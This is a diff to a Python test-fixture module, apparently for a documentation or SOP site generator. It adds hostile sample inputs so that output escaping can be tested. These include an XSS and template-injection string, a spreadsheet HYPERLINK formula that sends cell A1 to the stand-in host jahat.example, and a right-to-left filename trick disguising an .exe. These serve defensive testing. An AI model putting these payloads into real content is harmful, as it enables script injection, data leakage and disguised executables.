@@ -14,11 +14,18 @@ from macros.model.sop import Langkah, Naskah
 from macros.model.unit import DataUnit
 from macros.source.canonical import Bentuk, Daftar, Peta, Teks, tulis_markdown, tulis_yaml
 from macros.source.yaml import Data
+from tests.history.gudang import Gudang
 
 JAHAT = (
     """</title></script><script>alert(0)</script>"'><img src=x onerror=alert(0)>{{ 7*191 }}{% raw %}{# -->"""
 )
 """Closes whatever it may stand in, then runs a script, then a template."""
+
+RUMUS = '=HYPERLINK("https://jahat.example/?a="&A1,"klik")'
+"""A formula, wherever a spreadsheet takes text for one."""
+
+ARAH = "\u200fابج\u200e \u061cgnp.exe"
+"""Turns the direction of writing with the letters and marks that are allowed; the overrides are refused."""
 
 ALAMAT = "https://contoh.example/?a=1&b=2"
 TETAP: Mapping[str, Data] = {
@@ -96,6 +103,15 @@ def langkah(**lain: Data) -> Data:
     return dict(isi(Langkah, **{**tanpa, **isian, **lain}))
 
 
+def serang(data: Data, teks: str) -> Data:
+    """The same data with another attack."""
+    if isinstance(data, dict):
+        return {kunci: serang(satu, teks) for kunci, satu in data.items()}
+    if isinstance(data, list):
+        return [serang(satu, teks) for satu in data]
+    return data.replace(JAHAT, teks) if isinstance(data, str) else data
+
+
 PROSA = """\
 ## Judul { {7*191} } *tebal*
 
@@ -123,6 +139,15 @@ def tulis(folder: Path) -> Path:
         jalur.parent.mkdir(parents=True, exist_ok=True)
         jalur.write_text(teks, encoding="utf-8")
     return folder
+
+
+def tulis_berriwayat(folder: Path) -> Path:
+    """Lay out the city in a repository of its own, after a first edition in which every attack was another one."""
+    gudang = Gudang(folder)
+    lama = {nama: isi.replace("alert(0)", "alert(1)").replace("klik", "buka") for nama, isi in _berkas().items()}
+    gudang.komit(lama, judul=JAHAT)
+    gudang.komit(_berkas(), judul=RUMUS)
+    return gudang.sops
 
 
 def _berkas() -> dict[str, str]:
@@ -166,13 +191,20 @@ def _berkas() -> dict[str, str]:
     return {
         "kota.yml": tulis_yaml(isi(Kota), bentuk(Kota)),
         "peraturan.yml": tulis_yaml(peraturan, Daftar(bentuk(Peraturan))),
-        "istilah.yml": tulis_yaml({"kartu": JAHAT}, Peta({})),
+        "istilah.yml": tulis_yaml({"kartu": JAHAT, JAHAT: ["izin", RUMUS], RUMUS: ARAH, ARAH: "kartu"}, Peta({})),
         "dinas/index.md": tulis_markdown(isi(DataUnit, induk="bagian", jabatan=jabatan), unit, PROSA_UNIT),
         "bagian/index.md": tulis_markdown(isi(DataUnit, induk=None, jabatan=jabatan), unit, ""),
         "dinas/sop.md": tulis_markdown(dict(sop), naskah, PROSA),
         "dinas/lain.md": tulis_markdown(dict(lain), naskah, '{{ sop("dinas/draf") }}'),
         "dinas/lama.md": tulis_markdown(dict(lama), naskah, ""),
+        "dinas/rumus.md": tulis_markdown(_lain(lain, RUMUS, nomor=RUMUS, nama=RUMUS), naskah, RUMUS),
+        "dinas/arah.md": tulis_markdown(_lain(lain, ARAH, nomor=f"4 {ARAH}", nama=ARAH), naskah, ARAH),
         "dinas/draf.md": tulis_markdown({"nama": f"Draf {JAHAT}", "status": "draf"}, naskah, ""),
         "lambang.png": "",
         "dinas/lampiran/f.pdf": "%PDF",
     }
+
+
+def _lain(sop: Mapping[str, Data], teks: str, **isian: Data) -> dict[str, Data]:
+    """Another SOP of the same form, whose every text attacks in another way."""
+    return {kunci: serang(satu, teks) for kunci, satu in {**sop, **isian}.items()}
